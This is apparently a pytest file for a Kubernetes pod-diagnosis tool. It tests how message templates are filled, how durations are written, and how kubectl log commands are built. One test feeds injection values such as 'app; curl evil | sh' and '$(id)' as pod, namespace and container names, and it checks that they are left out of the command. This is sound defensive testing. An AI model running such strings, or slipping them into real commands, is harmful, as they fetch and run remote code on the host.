"""Templates and what fills them."""

from dataclasses import replace

import pytest

from pod_diagnoser.api.reason_classes import ReasonClass
from pod_diagnoser.diagnosis.cause_rules import CAUSE_RULES
from pod_diagnoser.diagnosis.evidence import OutputReason, OutputSource
from pod_diagnoser.diagnosis.phrases import PLACEHOLDERS, duration, render
from pod_diagnoser.diagnosis.problem_words import PROBLEM_WORDS
from pod_diagnoser.diagnosis.reason_steps import step_for
from tests.support.builders import termination

SYMPTOM = termination(
    message="{pod} {0} [{describe}] {pod.__class__} {",
    exit_code=1,
)

REASON = OutputReason(ReasonClass.MISSING_CONFIGURATION, OutputSource.LOG, "no config")
WITH_OUTPUT = SYMPTOM._replace(output=REASON)


def test_templates_are_filled_from_the_symptom() -> None:
    """Each placeholder with its phrase."""
    assert render("{Subject} exited with {exit_code}", SYMPTOM) == "Container app exited with 1"


def test_braces_of_a_pod_are_no_placeholders() -> None:
    """What a Pod or a runtime says is never read as a template."""
    assert render("said {message}", SYMPTOM) == ('said "{pod} {0} [{describe}] {pod.__class__} {"')


def test_an_unknown_placeholder_is_an_error() -> None:
    """A misspelled one is seen when the template is used, whatever the symptom."""
    with pytest.raises(KeyError):
        render("{unknown}", SYMPTOM)


def test_all_templates_can_be_filled() -> None:
    """Every row of the table has placeholders that are known."""
    for rule in CAUSE_RULES:
        for text in (rule.diagnosis, rule.evidence, rule.next_step):
            assert render(text, SYMPTOM)


def test_all_placeholders_are_used() -> None:
    """One that neither a row nor a choice needs is left over."""
    whole = [
        text if isinstance(text, str) else text(symptom)
        for rule in CAUSE_RULES
        for text in (rule.diagnosis, rule.evidence, rule.next_step)
        for symptom in (SYMPTOM, SYMPTOM._replace(memory_limit="64Mi"), WITH_OUTPUT)
    ]
    whole += [words.next_step for words in PROBLEM_WORDS.values()]
    whole += filter(None, map(step_for, (REASON, replace(REASON, said="KeyError: 'DB'"))))
    assert [name for name in PLACEHOLDERS if f"{{{name}}}" not in "".join(whole)] == []


@pytest.mark.parametrize(
    ("seconds", "written"),
    [
        (0, "less than 1 s"),
        (1, "1 s"),
        (119, "119 s"),
        (120, "2 min"),
        (7199, "119 min"),
        (7200, "2 h"),
        (172_799, "47 h"),
        (172_800, "2 days"),
    ],
)
def test_a_duration_has_the_largest_unit_of_which_there_are_two(seconds: int, written: str) -> None:
    """So that nobody has to divide."""
    assert duration(seconds) == written


def test_a_command_has_all_names_or_is_none() -> None:
    """Only names that Kubernetes allows stand in a command."""
    assert render("{logs}", SYMPTOM) == "kubectl logs -n shop app-1 -c app --previous"
    assert render("{logs}", SYMPTOM._replace(final=True)) == "kubectl logs -n shop app-1 -c app"
    for name in ("app; curl evil | sh", "app app", "", "App", "-o", "$(id)", "a\nb"):
        for symptom in (
            SYMPTOM._replace(namespace=name),
            SYMPTOM._replace(pod=name),
            SYMPTOM._replace(container=name),
        ):
            line = render("{logs}", symptom)
            assert line == "kubectl logs --previous"


def test_a_command_for_which_there_is_no_room_has_no_names() -> None:
    """It is never cut, and what is said about it gives way first."""
    template = "[see its last output: ]{logs}"
    assert render(template, SYMPTOM._replace(pod="p" * 40)).startswith("see its last output: kub")
    assert render(template, SYMPTOM._replace(pod="p" * 90)).startswith("kubectl logs -n shop ppp")
    assert render(template, SYMPTOM._replace(pod="p" * 120)) == "kubectl logs --previous"
